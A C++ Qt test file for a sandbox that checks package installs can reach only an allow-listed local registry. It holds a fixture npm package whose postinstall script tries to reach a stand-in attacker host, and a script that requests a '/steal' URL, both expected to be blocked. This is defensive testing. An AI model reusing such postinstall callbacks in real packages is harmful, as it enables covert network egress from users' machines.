// SPDX-License-Identifier: MIT
#include "sandboxtesthelpers.h"

#include <QCoreApplication>
#include <QCryptographicHash>
#include <QDir>
#include <QHttpServer>
#include <QHttpServerResponse>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>

// What an install in the real local sandbox can reach: a local "registry"
// (a QHttpServer in this process, allowed as 127.0.0.1:PORT) through the
// host's install proxy, and nothing else: a second local server stands for
// the attacker's host and must never see a connection.
class TestLocalSandboxEgress final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();
    void install_reachesTheRegistryButNoOtherHost();
    void npmInstall_getsItsPackageButItsPostinstallReachesNothingElse();
    void internetOn_opensOnlyForTheAppsCodeAfterTheInstalls();
    void realRegistry_npmAndPipInstallThroughTheDefaultAllowList();

private:
    SandboxSpec spec(bool internet = false) const;
    CommandSpec install(const QStringList &argv) const;
    void makeTarball();

    std::unique_ptr<QHttpServer> m_registry;
    std::unique_ptr<QTcpServer> m_other;
    quint16 m_registryPort = 0;
    int m_otherConnections = 0;
    QTemporaryDir m_packageDir;
    QByteArray m_tarball;
};

void TestLocalSandboxEgress::initTestCase()
{
    const QString missing = LocalSandboxProvider::unavailableReason();
    if (!missing.isEmpty())
        QSKIP(qPrintable(missing));
}

void TestLocalSandboxEgress::init()
{
    m_other = std::make_unique<QTcpServer>();
    QVERIFY(m_other->listen(QHostAddress::LocalHost, 0));
    m_otherConnections = 0;
    connect(m_other.get(), &QTcpServer::newConnection, this, [this] {
        while (QTcpSocket *socket = m_other->nextPendingConnection()) {
            ++m_otherConnections;
            socket->deleteLater();
        }
    });
    makeTarball();
    m_registry = std::make_unique<QHttpServer>();
    m_registry->route(QStringLiteral("/hello"), [] { return QStringLiteral("registry says hi"); });
    m_registry->route(QStringLiteral("/tiny-pkg/-/tiny-pkg-1.0.0.tgz"), [this] {
        return QHttpServerResponse(QByteArrayLiteral("application/octet-stream"), m_tarball);
    });
    m_registry->route(QStringLiteral("/tiny-pkg"), [this] {
        const QString base = QStringLiteral("http://127.0.0.1:%1").arg(m_registryPort);
        const QJsonObject dist{
            {QStringLiteral("tarball"), QString(base + u"/tiny-pkg/-/tiny-pkg-1.0.0.tgz")},
            {QStringLiteral("shasum"), QString::fromLatin1(QCryptographicHash::hash(m_tarball, QCryptographicHash::Sha1).toHex())},
            {QStringLiteral("integrity"), QString::fromLatin1(QByteArray("sha512-" + QCryptographicHash::hash(m_tarball, QCryptographicHash::Sha512).toBase64()))},
        };
        const QJsonObject version{{QStringLiteral("name"), QStringLiteral("tiny-pkg")},
                                  {QStringLiteral("version"), QStringLiteral("1.0.0")},
                                  {QStringLiteral("scripts"), QJsonObject{{QStringLiteral("postinstall"), QStringLiteral("node postinstall.js")}}},
                                  {QStringLiteral("dist"), dist}};
        const QJsonObject packument{{QStringLiteral("name"), QStringLiteral("tiny-pkg")},
                                    {QStringLiteral("dist-tags"), QJsonObject{{QStringLiteral("latest"), QStringLiteral("1.0.0")}}},
                                    {QStringLiteral("versions"), QJsonObject{{QStringLiteral("1.0.0"), version}}}};
        return QHttpServerResponse(QByteArrayLiteral("application/json"), QJsonDocument(packument).toJson());
    });
    m_registryPort = quint16(m_registry->listen(QHostAddress::LocalHost, 0));
    QVERIFY(m_registryPort > 0);
}

void TestLocalSandboxEgress::cleanup()
{
    m_registry.reset();
    m_other.reset();
}

// A package whose postinstall tries the attacker's host directly and through
// the proxy, as a careful attacker would.
void TestLocalSandboxEgress::makeTarball()
{
    const QString other = QString::number(m_other->serverPort());
    QDir(m_packageDir.path()).mkpath(QStringLiteral("package"));
    const auto write = [this](const QString &name, const QByteArray &content) {
        QFile file(m_packageDir.filePath(u"package/" + name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(content);
    };
    write(QStringLiteral("package.json"),
          R"({"name":"tiny-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}})");
    write(QStringLiteral("index.js"), "module.exports = 'tiny';\n");
    write(QStringLiteral("postinstall.js"), QStringLiteral(R"(
const http = require('http');
http.get('http://127.0.0.1:%1/direct', () => console.log('postinstall: direct reached'))
  .on('error', e => console.log('postinstall: direct failed ' + e.code));
const proxy = new URL(process.env.HTTP_PROXY);
http.request({host: proxy.hostname, port: proxy.port, path: 'http://127.0.0.1:%1/through-proxy'},
             res => console.log('postinstall: proxy answered ' + res.statusCode))
  .on('error', e => console.log('postinstall: proxy failed ' + e.code)).end();
)").arg(other).toUtf8());
    QProcess tar;
    tar.start(QStringLiteral("tar"), {QStringLiteral("-czf"), m_packageDir.filePath(QStringLiteral("tiny.tgz")),
                                      QStringLiteral("-C"), m_packageDir.path(), QStringLiteral("package")});
    QVERIFY(tar.waitForFinished(30000) && tar.exitCode() == 0);
    QFile tgz(m_packageDir.filePath(QStringLiteral("tiny.tgz")));
    QVERIFY(tgz.open(QIODevice::ReadOnly));
    m_tarball = tgz.readAll();
}

SandboxSpec TestLocalSandboxEgress::spec(bool internet) const
{
    SandboxSpec spec;
    spec.internetAccess = internet;
    spec.installHosts = QStringList{QStringLiteral("127.0.0.1:%1").arg(m_registryPort)};
    return spec;
}

CommandSpec TestLocalSandboxEgress::install(const QStringList &argv) const
{
    CommandSpec spec;
    spec.argv = argv;
    spec.workingDirectory = QStringLiteral("/home/user/app");
    spec.needsNetwork = true;
    spec.timeout = std::chrono::seconds(120);
    return spec;
}

void TestLocalSandboxEgress::install_reachesTheRegistryButNoOtherHost()
{
    SandboxFixture fixture;
    auto sandbox = fixture.create(spec());
    QVERIFY(sandbox);
    const QString script = QStringLiteral(R"(
import os, socket, urllib.request
print('proxy', os.environ['HTTPS_PROXY'])
print(urllib.request.urlopen('http://127.0.0.1:%1/hello', timeout=30).read().decode())
for url in ('http://127.0.0.1:%2/steal', 'https://example.com/'):
    try:
        urllib.request.urlopen(url, timeout=30); print('reached', url)
    except Exception as e:
        print('refused', url, e)
try:
    socket.create_connection(('192.0.2.1', 80), 3); print('direct reached')
except OSError as e:
    print('direct refused')
print('devices', ' '.join(sorted(l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:])))
)").arg(m_registryPort).arg(m_other->serverPort());
    const auto result = SandboxFixture::run(sandbox.get(), install({QStringLiteral("python3"), QStringLiteral("-c"), script}));
    QVERIFY2(result.ok && result.exitCode == 0, qPrintable(result.output + result.error.message));
    QVERIFY2(result.output.contains(u"registry says hi"), qPrintable(result.output));
    const QString other = QStringLiteral("127.0.0.1:%1").arg(m_other->serverPort());
    QVERIFY2(result.output.contains(QStringLiteral("refused http://127.0.0.1:%1/steal HTTP Error 403").arg(m_other->serverPort())),
             qPrintable(result.output));
    QVERIFY2(result.output.contains(u"refused https://example.com/ <urlopen error Tunnel connection failed: 403"),
             qPrintable(result.output));
    QVERIFY(result.output.contains(u"direct refused"));
    QVERIFY(result.output.contains(u"devices lo\n"));  // no way out but the proxy
    // The user sees what was stopped, in the install's own output.
    QVERIFY2(result.output.contains(QStringLiteral("SpawnAI blocked a connection to %1 during the install").arg(other)),
             qPrintable(result.output));
    QVERIFY(result.output.contains(u"SpawnAI blocked a connection to example.com:443 during the install"));

    // Once the install is over, the proxy's port is closed inside too.
    const QString proxyPort = result.output.section(QStringLiteral("proxy http://127.0.0.1:"), 1).section(u'\n', 0, 0);
    QVERIFY(proxyPort.toInt() > 0);
    const auto after = SandboxFixture::run(sandbox.get(), {QStringLiteral("python3"), QStringLiteral("-c"),
        QStringLiteral("import socket\ntry:\n socket.create_connection(('127.0.0.1',%1),3); print('open')\n"
                       "except OSError: print('closed')").arg(proxyPort)});
    QCOMPARE(after.output, QStringLiteral("closed\n"));
    QCOMPARE(m_otherConnections, 0);
}

void TestLocalSandboxEgress::npmInstall_getsItsPackageButItsPostinstallReachesNothingElse()
{
    SandboxFixture fixture;
    auto sandbox = fixture.create(spec());
    QVERIFY(sandbox);
    QVERIFY(SandboxFixture::write(sandbox.get(), QStringLiteral("/home/user/app/package.json"),
                                  R"({"name":"app","version":"1.0.0","dependencies":{"tiny-pkg":"1.0.0"}})"));
    // The real npm, its scripts on (what an approved package would get).
    CommandSpec npm = install({QStringLiteral("npm"), QStringLiteral("install"), QStringLiteral("--no-audit"),
                               QStringLiteral("--no-fund"), QStringLiteral("--foreground-scripts")});
    npm.environment.insert(QStringLiteral("npm_config_registry"), QStringLiteral("http://127.0.0.1:%1/").arg(m_registryPort));
    const auto result = SandboxFixture::run(sandbox.get(), npm);
    QVERIFY2(result.ok && result.exitCode == 0, qPrintable(result.output + result.error.message));
    QVERIFY2(result.output.contains(u"added 1 package"), qPrintable(result.output));
    QVERIFY2(result.output.contains(u"postinstall: direct failed ECONNREFUSED"), qPrintable(result.output));
    QVERIFY2(result.output.contains(u"postinstall: proxy answered 403"), qPrintable(result.output));
    const auto installed = SandboxFixture::shell(sandbox.get(), QStringLiteral("cat /home/user/app/node_modules/tiny-pkg/index.js"));
    QCOMPARE(installed.output, QStringLiteral("module.exports = 'tiny';\n"));
    QCOMPARE(m_otherConnections, 0);
}

void TestLocalSandboxEgress::internetOn_opensOnlyForTheAppsCodeAfterTheInstalls()
{
    SandboxFixture fixture;
    auto sandbox = fixture.create(spec(true));
    QVERIFY(sandbox);
    const QString devices = QStringLiteral("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\\n' ' '");
    CommandSpec installStep = install({QStringLiteral("/bin/sh"), QStringLiteral("-c"), devices});
    const auto during = SandboxFixture::run(sandbox.get(), installStep);
    QVERIFY2(during.ok, qPrintable(during.error.message));
    QCOMPARE(during.output, QStringLiteral("lo "));  // the app's internet is not the install's
    CommandSpec app;
    app.argv = QStringList{QStringLiteral("/bin/sh"), QStringLiteral("-c"), devices};
    app.workingDirectory = QStringLiteral("/home/user");
    app.runsAppCode = true;
    const auto appRun = SandboxFixture::run(sandbox.get(), app);
    QVERIFY2(appRun.ok, qPrintable(appRun.error.message));
    QCOMPARE(appRun.output, QStringLiteral("lo tap0 "));
    QCOMPARE(m_otherConnections, 0);
}

// The default allow-list against the real registries, as the express-api
// template uses them; skipped on a machine without internet.
void TestLocalSandboxEgress::realRegistry_npmAndPipInstallThroughTheDefaultAllowList()
{
    QTcpSocket probe;
    probe.connectToHost(QStringLiteral("registry.npmjs.org"), 443);
    if (!probe.waitForConnected(5000))
        QSKIP("registry.npmjs.org is not reachable from this machine");
    probe.abort();
    SandboxFixture fixture;
    auto sandbox = fixture.create();  // the default install hosts
    QVERIFY(sandbox);
    QVERIFY(SandboxFixture::write(sandbox.get(), QStringLiteral("/home/user/app/package.json"),
                                  R"({"name":"app","version":"1.0.0","dependencies":{"is-number":"7.0.0"}})"));
    const auto npm = SandboxFixture::run(sandbox.get(), install({QStringLiteral("npm"), QStringLiteral("install"),
                                                                 QStringLiteral("--no-audit"), QStringLiteral("--no-fund")}));
    QVERIFY2(npm.ok && npm.exitCode == 0, qPrintable(npm.output + npm.error.message));
    QVERIFY2(npm.output.contains(u"added 1 package"), qPrintable(npm.output));
    QTcpSocket pypi;
    pypi.connectToHost(QStringLiteral("pypi.org"), 443);
    if (pypi.waitForConnected(5000)) {
        pypi.abort();
        const auto pip = SandboxFixture::run(sandbox.get(), install({
            QStringLiteral("python3"), QStringLiteral("-m"), QStringLiteral("pip"), QStringLiteral("download"),
            QStringLiteral("--no-deps"), QStringLiteral("--disable-pip-version-check"), QStringLiteral("-d"),
            QStringLiteral("/tmp/wheels"), QStringLiteral("six==1.16.0")}));
        QVERIFY2(pip.ok && pip.exitCode == 0, qPrintable(pip.output + pip.error.message));
        QVERIFY2(pip.output.contains(u"Saved /tmp/wheels/six-1.16.0"), qPrintable(pip.output));
    } else {
        qInfo("pypi.org is not reachable from this machine: pip's part is left out");
    }
    // And github.com, a host every attacker likes, is not on the list.
    const auto github = SandboxFixture::run(sandbox.get(), install({QStringLiteral("python3"), QStringLiteral("-c"),
        QStringLiteral("import urllib.request\ntry:\n urllib.request.urlopen('https://github.com/', timeout=30)\nexcept Exception as e:\n print(e)")}));
    QVERIFY2(github.output.contains(u"Tunnel connection failed: 403"), qPrintable(github.output));
}

QTEST_GUILESS_MAIN(TestLocalSandboxEgress)
#include "test_localsandboxegress.moc"
